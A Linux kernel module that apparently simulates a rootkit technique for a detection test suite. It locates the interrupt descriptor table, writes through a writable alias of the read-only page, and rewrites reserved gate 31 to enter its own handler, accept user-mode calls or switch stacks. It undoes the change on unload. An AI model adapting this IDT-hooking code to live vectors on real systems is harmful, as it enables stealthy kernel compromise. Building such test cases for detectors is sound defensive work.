// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: an interrupt gate enters the module's own code (how=handler), may be raised by programs (how=rights), or gets
 * another stack (how=stack). Who: old kits that hook INT 0x80 and INT 3 (SuckIT's
 * relatives, "Handling the Interrupt Descriptor Table", Phrack 59).
 * Changes: gate 31 of the kernel's idt_table, a reserved vector that nothing raises. Undone when it is unloaded.
 */
#include "attack.h"

#include <asm/pgtable.h>

VARIANT("handler");

#define GATE (2 * sizeof(long))
static u8 original[GATE], *place;

static noinline void hooked_interrupt(void)
{
	panic("never raised");
}

/* What the CPUs read is read-only; the same memory has another address. */
static u8 *find(void)
{
	struct __packed {
		u16 limit;
		unsigned long base;
	} table;
	unsigned int level;
	pte_t *entry;

	asm volatile("sidt %0" : "=m"(table));
	entry = lookup_address(table.base, &level);
	if (!entry || level != PG_LEVEL_4K)
		return NULL;
	return (u8 *)page_address(pfn_to_page(pte_pfn(*entry))) + (table.base & ~PAGE_MASK) + 31 * GATE;
}

static int __init start(void)
{
	unsigned long handler = (unsigned long)hooked_interrupt;
	u8 gate[GATE];

	place = find();
	if (!place)
		return -ENOENT;
	memcpy(original, place, GATE);
	memcpy(gate, place, GATE);
	if (HOW("rights")) {
		gate[5] |= 0x60;
	} else if (HOW("stack")) {
		gate[4] = 1;
	} else {
		memcpy(gate, &handler, 2);
		memcpy(gate + 6, (u8 *)&handler + 2, sizeof(long) - 2);
	}
	write_protected(place, gate, GATE);
	return 0;
}

static void __exit stop(void)
{
	write_protected(place, original, GATE);
}

ATTACK(start, stop);
